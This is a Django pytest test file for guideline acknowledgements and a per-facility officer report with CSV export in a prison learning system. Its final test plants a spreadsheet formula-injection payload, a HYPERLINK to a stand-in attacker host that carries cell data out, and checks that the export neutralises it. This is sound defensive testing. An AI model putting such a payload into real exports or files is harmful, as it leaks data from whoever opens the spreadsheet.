"""Staff acknowledge guidelines; officers see who has, per facility, and export it."""

import pytest
from django.urls import reverse

from guidelines.models import GuidelineAcknowledgement, GuidelineIndexPage, GuidelinePage
from lms.core.models import AuditEvent, User
from tests import factories
from tests.kiosk_client import sign_in

pytestmark = pytest.mark.django_db


@pytest.fixture
def guideline(db):
    index = GuidelineIndexPage(title="Guidelines", slug="guidelines")
    factories.catalogue().add_child(instance=index)
    page = GuidelinePage(
        title="Searching cells",
        slug="searching",
        version="1.0",
        effective_date="2026-01-01",
        department="Security",
        body="<p>Method.</p>",
    )
    index.add_child(instance=page)
    return page


def acknowledge(client, user, guideline):
    sign_in(client, user)
    return client.post(reverse("guidelines:acknowledge", args=[guideline.pk]))


def test_staff_acknowledge_once_per_major_version(client, staff_member, guideline):
    acknowledge(client, staff_member, guideline)
    acknowledge(client, staff_member, guideline)
    assert GuidelineAcknowledgement.objects.filter(user=staff_member).count() == 1
    assert AuditEvent.objects.filter(action="guideline.acknowledge").count() == 1
    page = client.get(guideline.get_url()).content.decode()
    import re

    status = re.search(r'status--done">(.*?)</p>', page, re.S).group(1)
    assert "you confirmed that you read and understood version 1.0." in status
    assert ".." not in status

    guideline.version = "1.1"  # a minor revision does not ask again
    guideline.save_revision().publish()
    assert "I have read and understood it" not in client.get(guideline.get_url()).content.decode()

    guideline.version = "2.0"  # a new major version does
    guideline.save_revision().publish()
    assert "I have read and understood it" in client.get(guideline.get_url()).content.decode()
    acknowledge(client, staff_member, guideline)
    assert GuidelineAcknowledgement.objects.filter(user=staff_member).count() == 2


def test_prisoners_cannot_acknowledge_or_learn_that_a_guideline_exists(client, prisoner, guideline):
    assert acknowledge(client, prisoner, guideline).status_code == 404
    assert not GuidelineAcknowledgement.objects.exists()


def test_the_report_shows_the_officers_facilities_only_and_exports_csv(
    client, guideline, facility_a, facility_b
):
    officer = factories.OfficerFactory(facility=facility_a, first_name="Olga", last_name="Officer")
    done = factories.UserFactory(facility=facility_a, first_name="Әсел", last_name="Done")
    factories.UserFactory(facility=facility_a, first_name="Ivan", last_name="Pending")
    factories.UserFactory(facility=facility_b, first_name="Other", last_name="Facility")
    factories.PrisonerFactory(facility=facility_a, first_name="Prisoner", last_name="Notstaff")
    acknowledge(client, done, guideline)

    client.force_login(officer)
    page = client.get(reverse("guidelines:report", args=[guideline.pk])).content.decode()
    assert "Әсел Done" in page and "Ivan Pending" in page
    assert "Other Facility" not in page and "Prisoner Notstaff" not in page
    assert "1 of 3 acknowledged" in page  # Әсел, Ivan and the officer herself

    response = client.get(reverse("guidelines:report", args=[guideline.pk]), {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("Facility,Name,Username")
    assert any(line.startswith("Facility A,Әсел Done,") and ",1.0" in line for line in lines)
    assert any(
        line.startswith("Facility A,Ivan Pending,") and line.endswith(",,") for line in lines
    )
    assert not any("Other Facility" in line for line in lines)


@pytest.mark.parametrize("role", ["staff_learner", "trainer", "monitor"])
def test_the_report_is_for_officers_and_administrators(client, guideline, facility_a, role):
    client.force_login(factories.UserFactory(role=role, facility=facility_a))
    assert client.get(reverse("guidelines:report_index")).status_code == 403
    assert client.get(reverse("guidelines:report", args=[guideline.pk])).status_code == 403
    admin = factories.UserFactory(role=User.Role.ADMINISTRATOR, facility=None)
    client.force_login(admin)
    assert client.get(reverse("guidelines:report", args=[guideline.pk])).status_code == 200


def test_a_formula_in_a_name_reaches_the_csv_as_text(client, guideline, facility_a):
    officer = factories.OfficerFactory(facility=facility_a)
    factories.UserFactory(
        facility=facility_a,
        first_name='=HYPERLINK("http://evil.example/?"&A2,"Open")',
        last_name="x",
        position="@SUM(1+1)",
    )
    client.force_login(officer)
    response = client.get(reverse("guidelines:report", args=[guideline.pk]), {"format": "csv"})
    import csv
    import io

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(row for row in rows if "HYPERLINK" in row[1])
    assert row[1] == """'=HYPERLINK("http://evil.example/?"&A2,"Open") x"""
    assert row[3] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
